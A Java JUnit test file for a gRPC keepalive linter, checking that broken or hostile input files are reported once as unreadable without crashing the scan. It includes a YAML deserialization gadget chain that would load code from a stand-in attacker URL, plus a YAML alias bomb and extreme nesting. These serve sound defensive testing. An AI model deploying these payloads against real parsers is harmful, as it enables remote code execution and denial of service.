package dev.keepalivelint.robustness;

import static dev.keepalivelint.robustness.BadInputProject.assertGoodFindingReported;
import static dev.keepalivelint.robustness.BadInputProject.assertReportedOnce;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeFalse;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.keepalivelint.LintResult;
import dev.keepalivelint.check.UnreadableInputCheck;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Bad input never crashes the scan, never hides the findings of good files, and is reported once as
 * unreadable-input with its path, line (when known) and a one-line reason.
 */
class BadInputTest {
    @TempDir
    Path dir;

    private BadInputProject project;

    @BeforeEach
    void create() throws IOException {
        project = new BadInputProject(dir.resolve("project"));
    }

    // ---- Java ----------------------------------------------------------------------------------------------

    @Test
    void javaWithASyntaxError() throws IOException {
        String path = "src/main/java/com/acme/bad/Half.java";
        project.write(path, "package com.acme.bad;\n\nimport io.grpc.ManagedChannelBuilder;\n\nclass Half {\n"
            + "    void open() {\n        ManagedChannelBuilder.forTarget(\"x:1\").keepAliveTime(30, ;\n    }\n}\n");
        assertReportedOnce(project.lint(), path, 7, "not valid Java");
    }

    @Test
    void javaWithSyntaxTheParserDoesNotKnow() throws IOException {
        // Primitive patterns (JEP 455, a preview feature of Java 23-25) are newer than the parser.
        String path = "src/main/java/com/acme/bad/Preview.java";
        // In the method that builds the channel: a body without builders is not parsed (see JavaSkeleton).
        project.write(path, "package com.acme.bad;\n\nimport io.grpc.ManagedChannelBuilder;\n\nclass Preview {\n"
            + "    Object open(Object o) {\n        if (o instanceof int i) {\n            return i;\n        }\n"
            + "        return ManagedChannelBuilder.forTarget(\"a:1\")"
            + ".keepAliveTime(30, java.util.concurrent.TimeUnit.SECONDS).build();\n    }\n}\n");
        // JavaParser knows no position for this one ("int is not ReferenceType"): the line is left out.
        assertReportedOnce(project.lint(), path, 0, "not valid Java");
    }

    @Test
    void currentJavaSyntaxParses() throws IOException {
        String path = "src/main/java/com/acme/ok/Modern.java";
        project.write(path, "package com.acme.ok;\n\nimport io.grpc.ManagedChannelBuilder;\nimport java.util.concurrent.TimeUnit;\n\n"
            + "sealed interface Shape permits Circle {}\nrecord Circle(int r) implements Shape {}\n\nclass Modern {\n"
            + "    long seconds(Shape s) {\n        return switch (s) {\n            case Circle c when c.r() > 1 -> {\n"
            + "                yield 30;\n            }\n            case Circle c -> 60;\n        };\n    }\n\n"
            + "    Object open() {\n        var unused = 1;\n"
            + "        return ManagedChannelBuilder.forTarget(\"a:1\").keepAliveTime(30, TimeUnit.SECONDS).build();\n    }\n}\n");
        LintResult r = project.lint();
        assertGoodFindingReported(r);
        assertTrue(r.findings().stream().anyMatch(f -> f.location().path().equals(path)
            && f.ruleId().equals("keepalive-below-permit-time")), r.findings().toString());
    }

    @Test
    void oldJavaThatUsesYieldAndEnumAsNamesParses() throws IOException {
        // Java 1.4 code (enum as a name) and pre-14 code (yield as a name) still builds with -source 8.
        String path = "src/main/java/com/acme/ok/Legacy.java";
        project.write(path, "package com.acme.ok;\n\nimport io.grpc.ManagedChannelBuilder;\n"
            + "import java.util.concurrent.TimeUnit;\n\nclass Legacy {\n    int enum = 1;\n\n"
            + "    int yield(int x) {\n        int yield = x;\n        return yield;\n    }\n\n"
            + "    Object open() {\n        yield(2);\n"
            + "        return ManagedChannelBuilder.forTarget(\"a:1\").keepAliveTime(30, TimeUnit.SECONDS).build();\n"
            + "    }\n}\n");
        LintResult r = project.lint();
        assertGoodFindingReported(r);
        assertTrue(r.findings().stream().anyMatch(f -> f.location().path().equals(path) && f.location().line() == 16
            && f.ruleId().equals("keepalive-below-permit-time")), r.findings().toString());
        assertTrue(r.findings().stream().noneMatch(f -> f.ruleId().equals("unreadable-input")), r.findings().toString());
    }

    @Test
    void emptyJavaFileIsAValidCompilationUnitAndYieldsNothing() throws IOException {
        String path = "src/main/java/com/acme/bad/Empty.java";
        project.write(path, "");
        project.write("src/main/java/com/acme/bad/Blank.java", "\n  \n");
        LintResult r = project.lint();
        assertGoodFindingReported(r);
        assertTrue(r.findings().stream().noneMatch(f -> f.location().path().endsWith("Empty.java")
            || f.location().path().endsWith("Blank.java")), r.findings().toString());
    }

    @Test
    void hugeGeneratedJavaFile() throws IOException {
        String path = "src/main/java/com/acme/bad/Generated.java";
        Path file = project.root.resolve(path);
        Files.createDirectories(file.getParent());
        try (OutputStream out = Files.newOutputStream(file)) {
            out.write("package com.acme.bad;\nimport io.grpc.ManagedChannelBuilder;\npublic class Generated {\n"
                .getBytes(StandardCharsets.UTF_8));
            byte[] line = "    static final String S%07d = \"0123456789012345678901234567890123456789\";\n"
                .getBytes(StandardCharsets.UTF_8);
            for (int i = 0; i < 20 * 1024 * 1024 / line.length; i++) {
                out.write(line);
            }
            out.write("}\n".getBytes(StandardCharsets.UTF_8));
        }
        assertTrue(Files.size(file) >= 20L * 1024 * 1024);
        assertReportedOnce(project.lint(), path, 0, "over the 8.0 MB limit for one file (raise the file size limit");
    }

    @Test
    void binaryContentInAJavaFile() throws IOException {
        String path = "src/main/java/com/acme/bad/Blob.java";
        project.write(path, new byte[] {'p', 'a', 'c', 'k', '\n', 0, 1, 2, (byte) 0xff, 'x'});
        assertReportedOnce(project.lint(), path, 2, "binary content");
    }

    @Test
    void javaThatIsNotUtf8() throws IOException {
        String path = "src/main/java/com/acme/bad/Latin.java";
        project.write(path, ("package com.acme.bad;\n// Gr\u00fc\u00dfe\nclass Latin { Object c = io.grpc.ManagedChannelBuilder"
            + ".forTarget(\"x:1\").keepAliveTime(1, java.util.concurrent.TimeUnit.MINUTES).build(); }\n")
            .getBytes(StandardCharsets.ISO_8859_1));
        assertReportedOnce(project.lint(), path, 2, "not valid UTF-8");
    }

    // ---- YAML ----------------------------------------------------------------------------------------------

    @Test
    void yamlThatDoesNotParse() throws IOException {
        String path = "src/main/resources/application.yml";
        project.write(path, "grpc:\n  client:\n    a:\n      keep-alive-time: [30s\n");
        assertReportedOnce(project.lint(), path, 0, "YAML that cannot be read");
    }

    @Test
    void yamlAliasBomb() throws IOException {
        String path = "src/main/resources/application.yml";
        StringBuilder y = new StringBuilder("grpc:\n  client:\n    a: &a [x, x, x, x, x, x, x, x, x]\n");
        String prev = "a";
        for (int i = 0; i < 12; i++) {
            String name = "l" + i;
            y.append("    ").append(name).append(": &").append(name).append(" [");
            for (int j = 0; j < 9; j++) {
                y.append(j == 0 ? "" : ", ").append('*').append(prev);
            }
            y.append("]\n");
            prev = name;
        }
        project.write(path, y.toString());
        assertReportedOnce(project.lint(), path, 0, "YAML that cannot be read");
    }

    @Test
    void yamlNestedVeryDeeply() throws IOException {
        String path = "src/main/resources/application.yml";
        StringBuilder y = new StringBuilder("grpc: ");
        for (int i = 0; i < 5000; i++) {
            y.append('[');
        }
        for (int i = 0; i < 5000; i++) {
            y.append(']');
        }
        project.write(path, y.append('\n').toString());
        assertReportedOnce(project.lint(), path, 0, "YAML that cannot be read");
    }

    @Test
    void yamlWithDuplicateKeys() throws IOException {
        String path = "src/main/resources/application.yml";
        project.write(path, "grpc:\n  client:\n    a:\n      keep-alive-time: 30s\n      keep-alive-time: 5m\n");
        assertReportedOnce(project.lint(), path, 5, "duplicate key 'keep-alive-time'");
    }

    @Test
    void yamlTagsThatWouldInstantiateClassesAreRefused() throws IOException {
        String path = "src/main/resources/application.yml";
        project.write(path, "grpc:\n  client: !!javax.script.ScriptEngineManager "
            + "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.invalid/\"]]]]\n");
        assertReportedOnce(project.lint(), path, 2, "is not allowed");
    }

    @Test
    void multiDocumentYamlWithOneBrokenDocumentKeepsTheOthers() throws IOException {
        String path = "src/main/resources/application.yml";
        project.write(path, "grpc:\n  client:\n    a:\n      enable-keep-alive: true\n      keep-alive-time: 20s\n"
            + "---\ngrpc: [broken\n---\nother: 1\n");
        LintResult r = project.lint();
        assertGoodFindingReported(r);
        assertEquals(1, r.findings().stream().filter(f -> f.ruleId().equals(UnreadableInputCheck.ID)).count(),
            r.findings().toString());
        assertTrue(r.findings().stream().anyMatch(f -> f.location().path().equals(path) && f.location().line() == 5
            && f.ruleId().equals("keepalive-below-permit-time")), "the good document still counts: " + r.findings());
    }

    @Test
    void yamlThatIsNotUtf8() throws IOException {
        String path = "src/main/resources/application.yml";
        project.write(path, "grpc:\n  client:\n    # Gr\u00fc\u00dfe\n    a:\n      keep-alive-time: 30s\n"
            .getBytes(StandardCharsets.ISO_8859_1));
        assertReportedOnce(project.lint(), path, 3, "not valid UTF-8");
    }

    // ---- .properties ---------------------------------------------------------------------------------------

    @Test
    void propertiesWithABadEscape() throws IOException {
        String path = "src/main/resources/application.properties";
        project.write(path, "grpc.client.a.enable-keep-alive=true\ngrpc.client.a.address=static://\\u00zz:1\n");
        assertReportedOnce(project.lint(), path, 2, "malformed \\uXXXX");
    }

    @Test
    void latin1PropertiesAreReadRightAndNotReported() throws IOException {
        String path = "src/main/resources/application.properties";
        project.write(path, "# Gr\u00fc\u00dfe\ngrpc.client.a.enable-keep-alive=true\ngrpc.client.a.keep-alive-time=20s\n"
            .getBytes(StandardCharsets.ISO_8859_1));
        LintResult r = project.lint();
        assertGoodFindingReported(r);
        assertTrue(r.findings().stream().anyMatch(f -> f.location().path().equals(path) && f.location().line() == 3
            && f.ruleId().equals("keepalive-below-permit-time")), r.findings().toString());
        assertTrue(r.findings().stream().noneMatch(f -> f.ruleId().equals(UnreadableInputCheck.ID)), r.findings().toString());
    }

    @Test
    void binaryContentInAYamlFile() throws IOException {
        String path = "src/main/resources/logo.yml";
        project.write(path, new byte[] {(byte) 0x89, 'P', 'N', 'G', 0, 0, 0, 13});
        assertReportedOnce(project.lint(), path, 0, "binary content");
    }

    // ---- the file system -----------------------------------------------------------------------------------

    @Test
    void unreadableFile() throws IOException {
        String path = "src/main/resources/application.yml";
        Path file = project.write(path, "grpc:\n  client:\n    a:\n      keep-alive-time: 30s\n");
        assumeTrue(file.getFileSystem().supportedFileAttributeViews().contains("posix"));
        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("---------"));
        try {
            assumeFalse(Files.isReadable(file), "running as a user who can read anything (root)");
            assertReportedOnce(project.lint(), path, 0, "cannot be read");
        } finally {
            Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-r--r--"));
        }
    }

    @Test
    void symlinkLoopsAndLinksOutOfTheProjectAreNotFollowed() throws IOException {
        Path outside = dir.resolve("outside");
        Files.createDirectories(outside);
        Files.writeString(outside.resolve("application.yml"), "grpc:\n  client:\n    a:\n      enable-keep-alive: true\n"
            + "      keep-alive-time: 1s\n");
        Files.writeString(outside.resolve("Outside.java"), "class Outside { Object c = io.grpc.ManagedChannelBuilder"
            + ".forTarget(\"x:1\").keepAliveTime(1, java.util.concurrent.TimeUnit.SECONDS).build(); }\n");
        Path resources = project.root.resolve("src/main/resources");
        try {
            Files.createSymbolicLink(resources.resolve("linked"), outside);
            Files.createSymbolicLink(project.root.resolve("src/main/java/com/acme/loop"), project.root.resolve("src/main/java"));
            Files.createSymbolicLink(resources.resolve("outside.yml"), outside.resolve("application.yml"));
            Files.createSymbolicLink(project.root.resolve("src/main/java/com/acme/again"),
                project.root.resolve("src/main/java/com/acme/good"));
        } catch (UnsupportedOperationException | IOException e) {
            assumeTrue(false, "symbolic links are not supported here: " + e);
        }
        LintResult r = project.lint();
        assertGoodFindingReported(r);
        assertEquals(1, r.findings().size(), "nothing outside the project, nothing twice: " + r.findings());
    }
}
